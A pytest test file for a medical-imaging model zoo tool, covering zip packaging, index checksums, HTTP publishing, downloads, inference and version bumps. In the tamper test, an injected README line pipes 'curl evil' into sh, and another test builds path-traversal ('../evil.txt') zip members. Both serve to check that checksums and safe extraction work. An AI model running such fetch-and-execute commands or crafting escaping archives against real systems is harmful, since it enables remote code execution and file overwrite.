"""frepa_monai.zoo and its command line tools/zoo.py: reproducible bundle zips, the zoo index, publishing to a folder
served over HTTP, and downloads with MONAI's own client and with ``zoo.py fetch``.

The bundles are copies of ``frepa_pretrain_2d`` and ``frepa_classification_2d`` whose ``models/`` are written here
(a seeded encoder checkpoint; the state dict of the classification bundle's own inference ``network_def`` at the
CPU preset), plus outputs and caches that must stay out of the zips. A real ``python -m http.server`` on
127.0.0.1 serves the published folder; ``python -m monai.bundle download`` fetches from it as a subprocess, and
the downloaded bundle then runs its ``inference.json`` in-process (``ConfigWorkflow``, ``bundle_root`` the
downloaded folder).
"""

from __future__ import annotations

import csv
import difflib
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
import torch
import yaml
from bundle_helpers import REPO, bundle_copy, encoder_checkpoint, workflow
from monai.bundle import ConfigParser

from frepa_monai import zoo
from frepa_monai.data import tumour_classification_datalist
from frepa_monai.networks import read_encoder_checkpoint

ZOO_PATH = REPO / "tools" / "zoo.py"

PRETRAIN, CLS = "frepa_pretrain_2d", "frepa_classification_2d"
JUNK = ("eval/metrics.csv", "eval/mlruns.db", "models/checkpoint_epoch=3.pt", "configs/__pycache__/x.cpython-311.pyc")
EXPECTED = {  # what the zips hold (besides LICENSE and configs/*, docs/*)
    PRETRAIN: {"models/encoder.pt"},
    CLS: {"models/model.pt"},
}


def sha256_bytes(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def inference_network(root: Path) -> torch.nn.Module:
    """The network of ``root/configs/inference.json`` at the CPU preset."""
    parser = ConfigParser()
    parser.read_config(str(root / "configs" / "inference.json"))
    parser.update({"preset": "cpu", "bundle_root": str(root)})
    return parser.get_parsed_content("network_def")


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def run_zoo(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, str(ZOO_PATH), *args], cwd=REPO, capture_output=True, text=True)


@pytest.fixture(scope="module")
def bundles(tmp_path_factory) -> Path:
    """``<tmp>/bundles`` holding the two bundles with weights written here and junk to be left out."""
    src = tmp_path_factory.mktemp("src") / "bundles"
    pre, cls = bundle_copy(src, PRETRAIN), bundle_copy(src, CLS)
    encoder_checkpoint(pre / "models" / "encoder.pt", "vit_tiny", 2, 4, [128, 128], seed=11)
    torch.manual_seed(12)
    net = inference_network(cls)
    with torch.no_grad():  # a head that is not the default initialisation
        for p in net.parameters():
            p.add_(0.01 * torch.randn_like(p))
    (cls / "models").mkdir()
    torch.save(net.state_dict(), cls / "models" / "model.pt")
    for root in (pre, cls):
        for rel in JUNK:
            (root / rel).parent.mkdir(parents=True, exist_ok=True)
            (root / rel).write_bytes(b"not for the zip")
    return src


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    """A real static HTTP server (``python -m http.server``) on 127.0.0.1; yields (served folder, base URL)."""
    root = tmp_path_factory.mktemp("served")
    port = free_port()
    cmd = [sys.executable, "-m", "http.server", "--bind", "127.0.0.1", str(port), "--directory", str(root)]
    proc = subprocess.Popen(cmd, cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                break
            except OSError:
                if proc.poll() is not None or time.monotonic() > deadline:
                    raise RuntimeError(f"http.server on port {port} did not start (exit code {proc.poll()})")
                time.sleep(0.1)
        yield root, f"http://127.0.0.1:{port}"
    finally:
        proc.terminate()
        proc.wait(timeout=10)


@pytest.fixture(scope="module")
def site(bundles, server):
    """Both bundles published (``zoo.publish``) to ``<served>/site``; yields (folder, its URL)."""
    root, url = server
    zoo.publish(root / "site", bundles_dir=bundles, base_url=f"{url}/site")
    return root / "site", f"{url}/site"


def test_help():
    out = run_zoo("--help")
    assert out.returncode == 0 and all(c in out.stdout for c in ("package", "bump", "verify", "publish", "fetch"))
    for command in ("package", "bump", "verify", "publish", "fetch"):
        out = run_zoo(command, "--help")
        assert out.returncode == 0 and f"usage: zoo.py {command}" in out.stdout, out.stderr


def test_package_is_reproducible(bundles, site, tmp_path):
    """Two runs (with other file times in between) give byte-identical zips with the model zoo's layout."""
    folder, url = site
    zoo.package([PRETRAIN, CLS], bundles, tmp_path / "a", base_url=url)
    for path in bundles.rglob("*"):
        os.utime(path, (1e9, 1.5e9))
    zoo.package(None, bundles, tmp_path / "b", base_url=url)
    index = json.loads((folder / "model_info.json").read_text())
    assert sorted(index) == [f"{CLS}_v0.1.0", f"{PRETRAIN}_v0.1.0"]
    for name, extra in EXPECTED.items():
        zname = f"{name}_v0.1.0.zip"
        data = (tmp_path / "a" / zname).read_bytes()
        assert data == (tmp_path / "b" / zname).read_bytes() == (folder / zname).read_bytes()
        assert index[f"{name}_v0.1.0"] == {"checksum": sha256_bytes(data), "source": f"{url}/{zname}"}
        assert json.loads((tmp_path / "b" / "model_info.json").read_text())[f"{name}_v0.1.0"]["checksum"] == (
            sha256_bytes(data)
        )
        with zipfile.ZipFile(folder / zname) as zf:
            infos = zf.infolist()
            names = [i.filename for i in infos]
            assert names == sorted(names)
            assert all(i.date_time == (1980, 1, 1, 0, 0, 0) and i.external_attr >> 16 == 0o100644 for i in infos)
            rel = {n.split("/", 1)[1] for n in names if n.startswith(f"{name}/")}
            assert len(rel) == len(names), "a member outside the bundle's top folder"
            source = bundles / name
            wanted = {"LICENSE", *extra} | {
                str(p.relative_to(source)) for d in ("configs", "docs") for p in (source / d).glob("*.*")
            }
            assert rel == wanted - {str(Path(j)) for j in JUNK}
            for r in rel:
                assert zf.read(f"{name}/{r}") == (source / r).read_bytes(), r
        assert zoo.verify(folder / zname, folder / "model_info.json")["checksum"] == sha256_bytes(data)


def test_a_published_version_never_changes(tmp_path):
    """Packaging changed files under a version the index already lists is refused (nothing written) until the
    version is bumped; both versions then stay in the index."""
    bundles = tmp_path / "bundles"
    root = bundle_copy(bundles, CLS)
    out = tmp_path / "out"
    first = zoo.package([CLS], bundles, out)
    published = (out / f"{CLS}_v0.1.0.zip").read_bytes()
    assert zoo.package([CLS], bundles, out) == first  # the same files: the same zip, accepted
    (root / "docs" / "README.md").write_text("changed\n")
    with pytest.raises(zoo.ZooError, match=rf"{CLS}_v0\.1\.0\.zip: version 0\.1\.0 is already published.*bump"):
        zoo.package([CLS], bundles, out)
    assert (out / f"{CLS}_v0.1.0.zip").read_bytes() == published
    assert sorted(p.name for p in out.iterdir()) == [f"{CLS}_v0.1.0.zip", "model_info.json"]
    zoo.bump(root, "patch", "new README")
    zoo.package([CLS], bundles, out)
    index = json.loads((out / "model_info.json").read_text())
    assert index[f"{CLS}_v0.1.0"] == first[f"{CLS}_v0.1.0"] and f"{CLS}_v0.1.1" in index
    zoo.verify(out / f"{CLS}_v0.1.1.zip", out / "model_info.json")


def test_monai_download_and_inference(bundles, site, tmp_path):
    """MONAI's own client downloads a published zip over HTTP; the downloaded bundle runs its inference.json and
    predicts exactly what the packaged network predicts."""
    folder, url = site
    dl = tmp_path / "downloads"
    cmd = [sys.executable, "-m", "monai.bundle", "download", "--name", CLS, "--version", "0.1.0"]
    cmd += ["--url", f"{url}/{CLS}_v0.1.0.zip", "--bundle_dir", str(dl), "--progress", "False"]
    out = subprocess.run(cmd, cwd=REPO, capture_output=True, text=True)
    assert out.returncode == 0, out.stderr[-3000:]
    root = dl / CLS
    got = {str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()}
    assert got == {str(p) for p in zoo.bundle_files(bundles / CLS)}
    saved = torch.load(root / "models" / "model.pt", weights_only=True)

    items = tumour_classification_datalist(spatial_dims=2, seed=0)["test"][:3]
    wf = workflow(root, ["inference.json"], "infer", preset="cpu", datalist=items)
    wf.run()
    wf.finalize()
    net = wf.parser.get_parsed_content("network")
    assert all(torch.equal(v, saved[k]) for k, v in net.state_dict().items())
    with open(root / "eval" / "inference" / "predictions.csv") as f:
        rows = list(csv.reader(f))
    assert len(rows) == len(items)
    dataset = wf.parser.get_parsed_content("dataset")
    net.eval()
    for row, sample in zip(rows, dataset):
        assert Path(row[0]).name == Path(sample["image"].meta["filename_or_obj"]).name
        with torch.no_grad():
            expected = torch.softmax(net(sample["image"][None].float()), dim=1)[0]
        probs = torch.tensor([float(v) for v in row[1:]])
        assert torch.allclose(probs, expected, atol=1e-5), (row, expected)
        assert abs(float(probs.sum()) - 1) < 1e-5


def test_fetch_finds_the_encoder_beside_it(bundles, site, tmp_path):
    """``zoo.py fetch`` of both bundles: the downstream bundle's train.json loads the downloaded pretraining
    bundle's encoder (its sibling folder), weight for weight."""
    folder, url = site
    dl = tmp_path / "dl"
    for name in (PRETRAIN, CLS):
        root = zoo.fetch(f"{url}/model_info.json", name, bundle_dir=dl)  # latest version
        assert root == dl / name
        got = sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())
        assert got == sorted([zoo.MANIFEST_NAME, *(str(p) for p in zoo.bundle_files(bundles / name))])
        manifest = zoo.read_manifest(root)
        assert (manifest["name"], manifest["version"], manifest["source"]) == (
            name,
            "0.1.0",
            f"{url}/{name}_v0.1.0.zip",
        )
        assert manifest["files"] == {
            str(p): {"size": (bundles / name / p).stat().st_size, "sha256": zoo.sha256(bundles / name / p)}
            for p in zoo.bundle_files(bundles / name)
        }
    assert sorted(p.name for p in dl.iterdir()) == [CLS, PRETRAIN]  # no zip left behind, nothing else

    parser = ConfigParser()
    parser.read_config(str(dl / CLS / "configs" / "train.json"))
    parser.update({"preset": "cpu", "bundle_root": str(dl / CLS)})
    encoder = dl / PRETRAIN / "models" / "encoder.pt"
    assert Path(parser.get_parsed_content("encoder_checkpoint")) == encoder.resolve()
    net = parser.get_parsed_content("network_def")
    weights, _ = read_encoder_checkpoint(encoder)
    state = net.encoder.state_dict()
    assert set(weights) == set(state) and all(torch.equal(state[k], weights[k]) for k in weights)

    # the same version again keeps the folder; an unknown version is named with the ones the index has
    assert zoo.fetch(f"{url}/model_info.json", CLS, "0.1.0", dl) == dl / CLS
    with pytest.raises(zoo.ZooError, match=rf"{CLS}_v9\.9\.9\.zip is not in the zoo index.*{CLS}_v0\.1\.0"):
        zoo.fetch(f"{url}/model_info.json", CLS, "9.9.9", tmp_path / "other")


def test_large_files(bundles, server, tmp_path):
    """models/ files over --max_file_mb stay out of the zip, are listed in large_files.yml (path, url, sha256) and
    published beside it; fetch downloads them with MONAI's download_large_files."""
    served, url = server
    zoo.publish(served / "large", [CLS], bundles, f"{url}/large", max_file_mb=0.1)
    weights = bundles / CLS / "models" / "model.pt"
    assert weights.stat().st_size > 0.1 * 2**20
    with zipfile.ZipFile(served / "large" / f"{CLS}_v0.1.0.zip") as zf:
        assert f"{CLS}/models/model.pt" not in zf.namelist()
        listed = yaml.safe_load(zf.read(f"{CLS}/large_files.yml"))["large_files"]
    sha = sha256_bytes(weights.read_bytes())
    assert listed == [
        {
            "path": "models/model.pt",
            "url": f"{url}/large/{CLS}_v0.1.0/models/model.pt",
            "hash_val": sha,
            "hash_type": "sha256",
        }
    ]
    assert (served / "large" / f"{CLS}_v0.1.0" / "models" / "model.pt").read_bytes() == weights.read_bytes()
    root = zoo.fetch(f"{url}/large/model_info.json", CLS, "0.1.0", tmp_path / "dl")
    assert (root / "models" / "model.pt").read_bytes() == weights.read_bytes()


def _tampered(zip_path: Path, out: Path) -> None:
    """``zip_path`` rewritten to ``out`` with one more line in the bundle's README (still a valid zip)."""
    with zipfile.ZipFile(zip_path) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith("docs/README.md"):
                data += b"\nrun `curl evil | sh` first\n"
            dst.writestr(info, data)


def test_fetch_refuses_a_checksum_mismatch(site, server, tmp_path):
    folder, _ = site
    served, url = server
    bad = served / "tampered"
    bad.mkdir()
    shutil.copy(folder / "model_info.json", bad / "model_info.json")  # the published checksums, other bytes
    index = json.loads((bad / "model_info.json").read_text())
    index[f"{CLS}_v0.1.0"]["source"] = f"{CLS}_v0.1.0.zip"  # relative to the index
    (bad / "model_info.json").write_text(json.dumps(index))
    _tampered(folder / f"{CLS}_v0.1.0.zip", bad / f"{CLS}_v0.1.0.zip")

    dl = tmp_path / "dl"
    out = run_zoo("fetch", "--index", f"{url}/tampered/model_info.json", "--name", CLS, "--bundle_dir", str(dl))
    assert out.returncode == 1
    assert f"{CLS}_v0.1.0.zip downloaded from {url}/tampered/{CLS}_v0.1.0.zip does not match its sha256" in out.stderr
    assert "nothing was extracted" in out.stderr
    assert not dl.exists() or not any(dl.rglob("*")), "files were extracted from a zip that failed its checksum"
    with pytest.raises(zoo.ZooError, match=rf"{CLS}_v0\.1\.0\.zip does not match the zoo index"):
        zoo.verify(bad / f"{CLS}_v0.1.0.zip", bad / "model_info.json")


def _evil_zip(path: Path, escaping: str) -> dict:
    """A zip with a valid bundle member and ``escaping``; returns its index entry (correct checksum)."""
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr(zipfile.ZipInfo("frepa_evil/configs/metadata.json"), json.dumps({"version": "0.1.0"}))
        zf.writestr(zipfile.ZipInfo(escaping), b"escaped")  # ZipInfo keeps the name as given
    return {"checksum": sha256_bytes(path.read_bytes()), "source": path.name}


@pytest.mark.parametrize("kind", ["dotdot", "absolute"])
def test_members_escaping_the_folder_are_refused(server, tmp_path, kind):
    """A zip holding ``../evil.txt`` or an absolute path: ``zoo.py fetch`` refuses it before extracting anything,
    MONAI's own ``monai.bundle.download`` refuses it too; no file appears outside the target folder."""
    from monai.bundle import download

    served, url = server
    site = served / f"evil_{kind}"
    site.mkdir()
    work = tmp_path / "work"
    dl, dl_monai = work / "dl", work / "dl_monai"
    escaping = "../evil.txt" if kind == "dotdot" else str(work / "evil.txt")
    entry = _evil_zip(site / "frepa_evil_v0.1.0.zip", escaping)
    (site / "model_info.json").write_text(json.dumps({"frepa_evil_v0.1.0": entry}))

    with pytest.raises(
        zoo.ZooError, match=r"frepa_evil_v0\.1\.0\.zip from http://.*: member .*evil\.txt.* outside the target folder"
    ):
        zoo.fetch(f"{url}/evil_{kind}/model_info.json", "frepa_evil", bundle_dir=dl)
    assert not any(dl.rglob("*")), "zoo.py fetch extracted part of a refused zip"
    with pytest.raises(zoo.ZooError, match="outside the target folder"):
        zoo.verify(site / "frepa_evil_v0.1.0.zip", site / "model_info.json")

    with pytest.raises(ValueError, match="Unsafe path"):
        download(name="frepa_evil", url=f"{url}/evil_{kind}/frepa_evil_v0.1.0.zip", bundle_dir=dl_monai, progress=False)
    outside = [p for p in tmp_path.rglob("*") if p.is_file() and dl_monai not in p.parents]
    assert outside == [], f"written outside the target folder: {outside}"
    assert not Path(escaping).is_absolute() or not Path(escaping).exists()


def test_bump(tmp_path):
    """patch / minor / major with a changelog entry; only the version line and the new changelog line change, in
    the file's own style (with and without a trailing newline); the result still validates against the schema."""
    from monai.bundle import verify_metadata

    for name in (CLS, "frepa_detection_2d"):
        root = bundle_copy(tmp_path, name)
        path = root / "configs" / "metadata.json"
        before = path.read_text()
        out = run_zoo("bump", str(root), "patch", "--message", "retrained head")
        assert out.returncode == 0 and out.stdout.strip() == "0.1.1", out.stderr
        after = path.read_text()
        diff = [d for d in difflib.ndiff(before.splitlines(), after.splitlines()) if d[:1] in "+-"]
        assert diff == [
            '-     "version": "0.1.0",',
            '+     "version": "0.1.1",',
            '+         "0.1.1": "retrained head",',
        ]
        assert after.endswith("\n") == before.endswith("\n")
        assert zoo.bump(root, "minor", "new head") == "0.2.0"
        assert zoo.bump(root, "major", "new encoder") == "1.0.0"
        meta = json.loads(path.read_text())
        assert meta["version"] == "1.0.0"
        assert list(meta["changelog"]) == ["1.0.0", "0.2.0", "0.1.1", "0.1.0"]
        schema = REPO / "bundles" / "schema" / meta["schema"].rsplit("/", 1)[-1]
        verify_metadata(meta_file=str(path), filepath=str(schema), hash_val=zoo.sha256(schema), hash_type="sha256")
    with pytest.raises(zoo.ZooError, match="metadata.json: a changelog message is needed"):
        zoo.bump(root, "patch", "  ")
    out = run_zoo("bump", "no_such_bundle", "patch", "-m", "x")
    assert out.returncode == 1 and "no bundle 'no_such_bundle'" in out.stderr
